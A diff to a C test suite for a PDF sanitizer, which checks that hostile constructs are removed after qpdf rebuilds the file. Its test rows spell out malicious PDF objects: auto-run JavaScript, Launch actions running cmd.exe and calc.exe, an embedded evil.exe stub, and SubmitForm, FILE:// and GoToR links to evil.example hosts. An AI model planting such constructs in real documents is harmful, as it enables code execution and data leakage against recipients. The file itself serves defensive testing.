@@ -25,7 +25,7 @@ static GByteArray *pdf_build(const char *cat_extra, const char *page_extra, cons
 	GArray *offs = g_array_new(FALSE, FALSE, sizeof(gsize));
 	GString *s = g_string_new("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
 	const char *content = "0 0 m 100 100 l S\n";
-	char *objs[4 + 8] = { 0 };
+	char *objs[4 + 8] = {0};
 	int n = 0;
 
 	objs[n++] = g_strdup_printf("<< /Type /Catalog /Pages 2 0 R %s >>", cat_extra ? cat_extra : "");
@@ -57,7 +57,7 @@ static GByteArray *qpdf_transform(struct cdr4b_ctx *c, GByteArray *pdf, const ch
 {
 	char *in = cdr4b_write(c, "pre-in.pdf", pdf->data, pdf->len);
 	char *outp = g_build_filename(c->dir, "pre-out.pdf", NULL);
-	char *argv[16] = { "qpdf" };
+	char *argv[16] = {"qpdf"};
 	int n = 1;
 	for (int i = 0; args[i] && n < 12; i++)
 		argv[n++] = (char *)args[i];
@@ -87,88 +87,198 @@ struct row {
 	const char *raw; /* PRE_RAW: the whole file */
 	enum mg_cdr_status want;
 	const char *want_removed[4];
-	const char *absent[4];	/* not in the QDF form of the output */
+	const char *absent[4];  /* not in the QDF form of the output */
 	const char *present[3]; /* still there */
 	const char *want_reason;
 	gboolean damaged_ok; /* qpdf --check may warn (the input was damaged too) */
 };
 
 static const struct row rows[] = {
-	{ "openaction-js", "/OpenAction 5 0 R", NULL, { "<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>" },
-	  PRE_NONE, NULL, MG_CDR_REBUILT, { "OpenAction removed", "JavaScript removed" },
-	  { "/OpenAction", "/JavaScript", "app.alert" }, { "/MediaBox" } },
-	{ "launch-link", NULL, "/Annots [5 0 R]",
-	  { "<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Launch /F (cmd.exe) "
-	    "/Win << /F (cmd.exe) /P (/c calc) >> >> >>" },
-	  PRE_NONE, NULL, MG_CDR_REBUILT, { "Launch action removed" }, { "/Launch", "cmd.exe" },
-	  { "/Link" } },
-	{ "uri-link-kept", NULL, "/Annots [5 0 R]",
-	  { "<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://example.org/) >> >>" },
-	  PRE_NONE, NULL, MG_CDR_REBUILT, { NULL }, { "/JavaScript" }, { "/URI", "https://example.org/" } },
-	{ "uri-other-schemes", NULL, "/Annots [5 0 R 6 0 R 7 0 R]",
-	  { "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>",
-	    "<< /Type /Annot /Subtype /Link /Rect [0 9 9 18] /A << /S /URI /URI (  FILE://evil.example/share) >> >>",
-	    "<< /Type /Annot /Subtype /Link /Rect [0 18 9 27] /A << /S /URI /URI (MAILTO:soumu@city.example.lg.jp) "
-	    ">> >>" },
-	  PRE_NONE, NULL, MG_CDR_REBUILT, { "2 non-web link (URI) actions removed" },
-	  { "javascript:", "evil.example" }, { "MAILTO:soumu@city.example.lg.jp" } },
-	{ "embedded-file", "/Names << /EmbeddedFiles << /Names [(evil.exe) 5 0 R (b.txt) 7 0 R] >> >>", NULL,
-	  { "<< /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>",
-	    "<< /Type /EmbeddedFile /Length 11 >>\nstream\nMZ-payload\nendstream",
-	    "<< /Type /Filespec /F (b.txt) /EF << /F 6 0 R >> >>" },
-	  PRE_NONE, NULL, MG_CDR_REBUILT, { "2 embedded files removed" },
-	  { "/EmbeddedFile", "evil.exe", "MZ-payload" } },
-	{ "page-aa-js", NULL, "/AA << /O << /S /JavaScript /JS (this.exportDataObject\\(\\)) >> >>", { NULL },
-	  PRE_NONE, NULL, MG_CDR_REBUILT, { "additional-actions (AA) entry removed", "JavaScript removed" },
-	  { "/AA", "exportDataObject" } },
-	{ "attachment-annot", NULL, "/Annots [5 0 R]",
-	  { "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.vbs) "
-	    "/EF << /F 6 0 R >> >> >>",
-	    "<< /Type /EmbeddedFile /Length 12 >>\nstream\nWScript.Echo\nendstream" },
-	  PRE_NONE, NULL, MG_CDR_REBUILT, { "file attachment annotation removed" },
-	  { "/FileAttachment", "a.vbs", "WScript" } },
-	{ "xfa-submit", "/AcroForm << /Fields [5 0 R] /XFA 6 0 R /NeedsRendering true >>", NULL,
-	  { "<< /FT /Btn /T (send) /A << /S /SubmitForm /F (http://evil.example/) >> >>",
-	    "<< /Length 14 >>\nstream\n<xdp:xdp/>   \nendstream" },
-	  PRE_NONE, NULL, MG_CDR_REBUILT, { "SubmitForm action removed", "XFA form removed" },
-	  { "/XFA", "xdp:xdp", "/SubmitForm", "/NeedsRendering" }, { "/AcroForm" } },
-	{ "js-name-tree-gotor-outline", "/Names << /JavaScript << /Names [(x) 5 0 R] >> >> /Outlines 6 0 R", NULL,
-	  { "<< /S /JavaScript /JS 8 0 R >>", "<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
-	    "<< /Title (go) /Parent 6 0 R /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >> >>",
-	    "<< /Length 15 >>\nstream\nthis.print\\(\\);\nendstream" },
-	  PRE_NONE, NULL, MG_CDR_REBUILT, { "JavaScript removed", "GoToR (remote document) action removed" },
-	  { "/GoToR", "this.print", "evil" }, { "/Outlines" } },
-	{ "objstm-openaction", "/OpenAction 5 0 R", NULL, { "<< /S /Launch /F (calc.exe) >>" }, PRE_OBJSTM, NULL,
-	  MG_CDR_REBUILT, { "OpenAction removed", "Launch action removed" }, { "/OpenAction", "calc.exe" } },
-	{ "encrypted-empty-user", "/OpenAction 5 0 R", NULL, { "<< /S /JavaScript /JS (app.alert\\(1\\)) >>" },
-	  PRE_ENC_EMPTY, NULL, MG_CDR_REBUILT,
-	  { "encryption removed (empty user password)", "OpenAction removed", "JavaScript removed" },
-	  { "/Encrypt", "app.alert" } },
-	{ "encrypted-user", NULL, NULL, { NULL }, PRE_ENC_USER, NULL, MG_CDR_UNSCANNABLE, { NULL }, { NULL },
-	  { NULL }, "encrypted" },
+	{"openaction-js",
+	 "/OpenAction 5 0 R",
+	 NULL,
+	 {"<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"},
+	 PRE_NONE,
+	 NULL,
+	 MG_CDR_REBUILT,
+	 {"OpenAction removed", "JavaScript removed"},
+	 {"/OpenAction", "/JavaScript", "app.alert"},
+	 {"/MediaBox"}},
+	{"launch-link",
+	 NULL,
+	 "/Annots [5 0 R]",
+	 {"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Launch /F (cmd.exe) "
+	  "/Win << /F (cmd.exe) /P (/c calc) >> >> >>"},
+	 PRE_NONE,
+	 NULL,
+	 MG_CDR_REBUILT,
+	 {"Launch action removed"},
+	 {"/Launch", "cmd.exe"},
+	 {"/Link"}},
+	{"uri-link-kept",
+	 NULL,
+	 "/Annots [5 0 R]",
+	 {"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://example.org/) >> >>"},
+	 PRE_NONE,
+	 NULL,
+	 MG_CDR_REBUILT,
+	 {NULL},
+	 {"/JavaScript"},
+	 {"/URI", "https://example.org/"}},
+	{"uri-other-schemes",
+	 NULL,
+	 "/Annots [5 0 R 6 0 R 7 0 R]",
+	 {"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>",
+	  "<< /Type /Annot /Subtype /Link /Rect [0 9 9 18] /A << /S /URI /URI (  FILE://evil.example/share) >> >>",
+	  "<< /Type /Annot /Subtype /Link /Rect [0 18 9 27] /A << /S /URI /URI (MAILTO:soumu@city.example.lg.jp) "
+	  ">> >>"},
+	 PRE_NONE,
+	 NULL,
+	 MG_CDR_REBUILT,
+	 {"2 non-web link (URI) actions removed"},
+	 {"javascript:", "evil.example"},
+	 {"MAILTO:soumu@city.example.lg.jp"}},
+	{"embedded-file",
+	 "/Names << /EmbeddedFiles << /Names [(evil.exe) 5 0 R (b.txt) 7 0 R] >> >>",
+	 NULL,
+	 {"<< /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>",
+	  "<< /Type /EmbeddedFile /Length 11 >>\nstream\nMZ-payload\nendstream",
+	  "<< /Type /Filespec /F (b.txt) /EF << /F 6 0 R >> >>"},
+	 PRE_NONE,
+	 NULL,
+	 MG_CDR_REBUILT,
+	 {"2 embedded files removed"},
+	 {"/EmbeddedFile", "evil.exe", "MZ-payload"}},
+	{"page-aa-js",
+	 NULL,
+	 "/AA << /O << /S /JavaScript /JS (this.exportDataObject\\(\\)) >> >>",
+	 {NULL},
+	 PRE_NONE,
+	 NULL,
+	 MG_CDR_REBUILT,
+	 {"additional-actions (AA) entry removed", "JavaScript removed"},
+	 {"/AA", "exportDataObject"}},
+	{"attachment-annot",
+	 NULL,
+	 "/Annots [5 0 R]",
+	 {"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.vbs) "
+	  "/EF << /F 6 0 R >> >> >>",
+	  "<< /Type /EmbeddedFile /Length 12 >>\nstream\nWScript.Echo\nendstream"},
+	 PRE_NONE,
+	 NULL,
+	 MG_CDR_REBUILT,
+	 {"file attachment annotation removed"},
+	 {"/FileAttachment", "a.vbs", "WScript"}},
+	{"xfa-submit",
+	 "/AcroForm << /Fields [5 0 R] /XFA 6 0 R /NeedsRendering true >>",
+	 NULL,
+	 {"<< /FT /Btn /T (send) /A << /S /SubmitForm /F (http://evil.example/) >> >>",
+	  "<< /Length 14 >>\nstream\n<xdp:xdp/>   \nendstream"},
+	 PRE_NONE,
+	 NULL,
+	 MG_CDR_REBUILT,
+	 {"SubmitForm action removed", "XFA form removed"},
+	 {"/XFA", "xdp:xdp", "/SubmitForm", "/NeedsRendering"},
+	 {"/AcroForm"}},
+	{"js-name-tree-gotor-outline",
+	 "/Names << /JavaScript << /Names [(x) 5 0 R] >> >> /Outlines 6 0 R",
+	 NULL,
+	 {"<< /S /JavaScript /JS 8 0 R >>", "<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
+	  "<< /Title (go) /Parent 6 0 R /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >> >>",
+	  "<< /Length 15 >>\nstream\nthis.print\\(\\);\nendstream"},
+	 PRE_NONE,
+	 NULL,
+	 MG_CDR_REBUILT,
+	 {"JavaScript removed", "GoToR (remote document) action removed"},
+	 {"/GoToR", "this.print", "evil"},
+	 {"/Outlines"}},
+	{"objstm-openaction",
+	 "/OpenAction 5 0 R",
+	 NULL,
+	 {"<< /S /Launch /F (calc.exe) >>"},
+	 PRE_OBJSTM,
+	 NULL,
+	 MG_CDR_REBUILT,
+	 {"OpenAction removed", "Launch action removed"},
+	 {"/OpenAction", "calc.exe"}},
+	{"encrypted-empty-user",
+	 "/OpenAction 5 0 R",
+	 NULL,
+	 {"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"},
+	 PRE_ENC_EMPTY,
+	 NULL,
+	 MG_CDR_REBUILT,
+	 {"encryption removed (empty user password)", "OpenAction removed", "JavaScript removed"},
+	 {"/Encrypt", "app.alert"}},
+	{"encrypted-user",
+	 NULL,
+	 NULL,
+	 {NULL},
+	 PRE_ENC_USER,
+	 NULL,
+	 MG_CDR_UNSCANNABLE,
+	 {NULL},
+	 {NULL},
+	 {NULL},
+	 "encrypted"},
 	/* No xref, no /Size, the action shared with /Pages (reduced from pdf.js
 	 * issue15590): the action becomes null, so the page tree is missing. */
-	{ "no-xref-no-size", NULL, NULL, { NULL }, PRE_RAW,
-	  "%PDF-1.7\n\ntrailer\n<<\n/Root 1 0 R\n>>\n\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 2 0 R >>\n"
-	  "endobj\n\n2 0 obj\n<< /S /JavaScript /JS(func=function(){app.alert(1)};func();) >>\nendobj\n\n%%EOF\n",
-	  MG_CDR_REBUILT, { "OpenAction removed", "2 JavaScript objects removed" }, { "/OpenAction", "app.alert" },
-	  { NULL }, NULL, TRUE },
+	{"no-xref-no-size",
+	 NULL,
+	 NULL,
+	 {NULL},
+	 PRE_RAW,
+	 "%PDF-1.7\n\ntrailer\n<<\n/Root 1 0 R\n>>\n\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 2 0 R >>\n"
+	 "endobj\n\n2 0 obj\n<< /S /JavaScript /JS(func=function(){app.alert(1)};func();) >>\nendobj\n\n%%EOF\n",
+	 MG_CDR_REBUILT,
+	 {"OpenAction removed", "2 JavaScript objects removed"},
+	 {"/OpenAction", "app.alert"},
+	 {NULL},
+	 NULL,
+	 TRUE},
 	/* Loops: an action array that contains itself, a name tree whose kid is its parent. */
-	{ "loops", "/OpenAction 5 0 R /Names << /EmbeddedFiles 7 0 R >>", NULL,
-	  { "<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>", "[6 0 R << /S /Launch /F (x.exe) >>]",
-	    "<< /Kids [7 0 R 7 0 R] /Names [(a) 8 0 R] >>", "<< /Type /Filespec /F (a.exe) >>" },
-	  PRE_NONE, NULL, MG_CDR_REBUILT, { "OpenAction removed", "embedded file removed" },
-	  { "/OpenAction", "/Launch", "a.exe" } },
+	{"loops",
+	 "/OpenAction 5 0 R /Names << /EmbeddedFiles 7 0 R >>",
+	 NULL,
+	 {"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>", "[6 0 R << /S /Launch /F (x.exe) >>]",
+	  "<< /Kids [7 0 R 7 0 R] /Names [(a) 8 0 R] >>", "<< /Type /Filespec /F (a.exe) >>"},
+	 PRE_NONE,
+	 NULL,
+	 MG_CDR_REBUILT,
+	 {"OpenAction removed", "embedded file removed"},
+	 {"/OpenAction", "/Launch", "a.exe"}},
 	/* Objects behind keys no viewer reads still go (reduced from ClamAV's pdf-stats-test.pdf). */
-	{ "odd-keys", "/Launch 5 0 R /EmbeddedFile 6 0 R /Extra << /Deep << /S /JavaScript /JS (evil\\(\\)) >> >>",
-	  NULL,
-	  { "<< /S /Launch /F (dummy.exe) >>", "<< /Type /EmbeddedFile /Length 10 >>\nstream\nHelloWorld\nendstream" },
-	  PRE_NONE, NULL, MG_CDR_REBUILT, { "Launch action removed", "embedded file removed", "JavaScript removed" },
-	  { "dummy.exe", "HelloWorld", "evil" } },
-	{ "corrupt", NULL, NULL, { NULL }, PRE_RAW, "%PDF-1.4\n1 0 obj << /Type /Cat", MG_CDR_UNSCANNABLE,
-	  { NULL }, { NULL }, { NULL }, "corrupt" },
-	{ "not-pdf", NULL, NULL, { NULL }, PRE_RAW, "PK\x03\x04 this is no pdf at all", MG_CDR_UNSCANNABLE,
-	  { NULL }, { NULL }, { NULL }, "corrupt" },
+	{"odd-keys",
+	 "/Launch 5 0 R /EmbeddedFile 6 0 R /Extra << /Deep << /S /JavaScript /JS (evil\\(\\)) >> >>",
+	 NULL,
+	 {"<< /S /Launch /F (dummy.exe) >>", "<< /Type /EmbeddedFile /Length 10 >>\nstream\nHelloWorld\nendstream"},
+	 PRE_NONE,
+	 NULL,
+	 MG_CDR_REBUILT,
+	 {"Launch action removed", "embedded file removed", "JavaScript removed"},
+	 {"dummy.exe", "HelloWorld", "evil"}},
+	{"corrupt",
+	 NULL,
+	 NULL,
+	 {NULL},
+	 PRE_RAW,
+	 "%PDF-1.4\n1 0 obj << /Type /Cat",
+	 MG_CDR_UNSCANNABLE,
+	 {NULL},
+	 {NULL},
+	 {NULL},
+	 "corrupt"},
+	{"not-pdf",
+	 NULL,
+	 NULL,
+	 {NULL},
+	 PRE_RAW,
+	 "PK\x03\x04 this is no pdf at all",
+	 MG_CDR_UNSCANNABLE,
+	 {NULL},
+	 {NULL},
+	 {NULL},
+	 "corrupt"},
 };
 
 /* The QDF (uncompressed, one object per block) form of a PDF. */
@@ -176,7 +286,7 @@ static char *qdf_of(struct cdr4b_ctx *c, const GByteArray *pdf, gsize *len)
 {
 	char *in = cdr4b_write(c, "out.pdf", pdf->data, pdf->len);
 	char *qdf = g_build_filename(c->dir, "out.qdf", NULL);
-	char *argv[] = { "qpdf", "--qdf", "--object-streams=disable", in, qdf, NULL };
+	char *argv[] = {"qpdf", "--qdf", "--object-streams=disable", in, qdf, NULL};
 	int rc = cdr4b_spawn(argv, NULL);
 	assert_true(rc == 0 || rc == 3); /* 3: warnings (damaged_ok rows) */
 	char *text = NULL;
@@ -189,7 +299,7 @@ static char *qdf_of(struct cdr4b_ctx *c, const GByteArray *pdf, gsize *len)
 static void check_output(struct cdr4b_ctx *c, const struct row *r, const struct mg_cdr_out *out)
 {
 	char *path = cdr4b_write(c, "check.pdf", out->data->data, out->data->len);
-	char *argv[] = { "qpdf", "--check", path, NULL }, *report = NULL;
+	char *argv[] = {"qpdf", "--check", path, NULL}, *report = NULL;
 	int rc = cdr4b_spawn(argv, &report);
 	if (rc != 0 && !(rc == 3 && r->damaged_ok))
 		fail_msg("%s: qpdf --check exit %d: %s", r->name, rc, report);
@@ -213,9 +323,9 @@ static void check_output(struct cdr4b_ctx *c, const struct row *r, const struct 
 
 static GByteArray *row_input(struct cdr4b_ctx *c, const struct row *r)
 {
-	static const char *const objstm[] = { "--object-streams=generate", NULL };
-	static const char *const enc_empty[] = { "--encrypt", "", "owner", "256", NULL };
-	static const char *const enc_user[] = { "--encrypt", "secret", "owner", "256", NULL };
+	static const char *const objstm[] = {"--object-streams=generate", NULL};
+	static const char *const enc_empty[] = {"--encrypt", "", "owner", "256", NULL};
+	static const char *const enc_user[] = {"--encrypt", "secret", "owner", "256", NULL};
 	if (r->pre == PRE_RAW) {
 		GByteArray *b = g_byte_array_new();
 		return g_byte_array_append(b, (const guint8 *)r->raw, (guint)strlen(r->raw));
@@ -283,7 +393,7 @@ static void test_budgets(void **state)
 {
 	struct cdr4b_ctx c;
 	struct mg_cdr_out out;
-	const char *many[7] = { NULL };
+	const char *many[7] = {NULL};
 	GString *arr = g_string_new("/Extra [");
 	cdr4b_setup(&c);
 	for (int i = 0; i < 6; i++) {
@@ -316,7 +426,7 @@ static void test_budgets(void **state)
 	mg_cdr_out_clear(&out);
 	/* A deadline already past. */
 	c.t.cfg->pdf_max_size = 1024 * 1024;
-	struct mg_cdr_in late = { .t = &c.t, .data = in->data, .len = in->len, .deadline_us = 1 };
+	struct mg_cdr_in late = {.t = &c.t, .data = in->data, .len = in->len, .deadline_us = 1};
 	mg_cdr_out_init(&out);
 	assert_int_equal(mg_cdr_pdf(&late, &out), MG_CDR_UNSCANNABLE);
 	assert_string_equal(out.reason, "time budget exceeded");
